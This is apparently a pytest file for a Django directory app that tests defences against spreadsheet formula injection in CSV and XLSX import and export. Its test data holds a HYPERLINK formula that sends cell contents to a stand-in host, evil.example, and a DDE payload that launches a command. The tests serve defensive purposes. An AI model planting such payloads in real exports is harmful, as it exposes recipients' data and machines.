"""Formula injection (OWASP CSV injection): a name like ``=HYPERLINK(...)`` that reached the
directory through the API must never be a live formula in an export, and an import refuses it."""

from __future__ import annotations

from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from simpul.core.exceptions import ApplicationError
from simpul.core.spreadsheets import is_formula_like, neutralise
from simpul.directory import services
from simpul.directory.imports import SERVICE_COLUMNS
from simpul.directory.models import Organization, Service
from simpul.testing.auth import login
from simpul.testing.factories import OrganizationFactory, ServiceFactory

from .test_import import org_row, service_row, workbook

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&B3,"Klik")'


@pytest.mark.parametrize(
    "value", [EVIL, "+SUM(A1:A2)", "-2+3*cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1"]
)
def test_formula_like_text_is_neutralised(value):
    assert is_formula_like(value)
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["+62 812-3456-7890", "-6.2", "(021) 555-1234", "Panti Asuhan", 5, None]
)
def test_numbers_phones_and_plain_text_are_left_alone(value):
    assert not is_formula_like(value)
    assert neutralise(value) == value


def test_export_writes_an_injected_name_as_text_never_a_formula(client, dinsos_admin):
    org = OrganizationFactory(name=EVIL, org_type="panti")
    ServiceFactory(organization=org, name="@SUM(1+1)")
    login(client, dinsos_admin)
    response = client.get(reverse("directory:export"), {"org_type": "panti"})
    assert response.status_code == 200
    wb = load_workbook(BytesIO(response.content))
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    names = [r[1] for r in wb["organisations"].iter_rows(min_row=2, values_only=True)]
    assert names == ["'" + EVIL]


def test_csv_import_refuses_a_formula_with_a_row_error_and_saves_nothing(dinsos_admin):
    org = OrganizationFactory(name="Panti Lama")
    before = Service.objects.count()
    line = ",".join(
        f'"{v}"' if "," in str(v) else str(v)
        for v in service_row("Panti Lama", "@SUM(1)", eligibility="=1+1")
    )
    upload = SimpleUploadedFile(
        "services.csv", (",".join(SERVICE_COLUMNS) + "\n" + line + "\n").encode()
    )
    with pytest.raises(ApplicationError) as excinfo:
        services.directory_import(actor=dinsos_admin, file=upload, kind="services")
    columns = {e["column"] for e in excinfo.value.extra["errors"]}
    assert {"name", "eligibility"} <= columns
    assert Service.objects.count() == before and not org.services.exists()


def test_xlsx_import_refuses_a_formula_name(dinsos_admin):
    before = Organization.objects.count()
    upload = workbook([org_row("=1+1", "31.75.01.1001")])
    with pytest.raises(ApplicationError) as excinfo:
        services.directory_import(actor=dinsos_admin, file=upload, kind="organisations")
    assert "name" in {e["column"] for e in excinfo.value.extra["errors"]}
    assert Organization.objects.count() == before
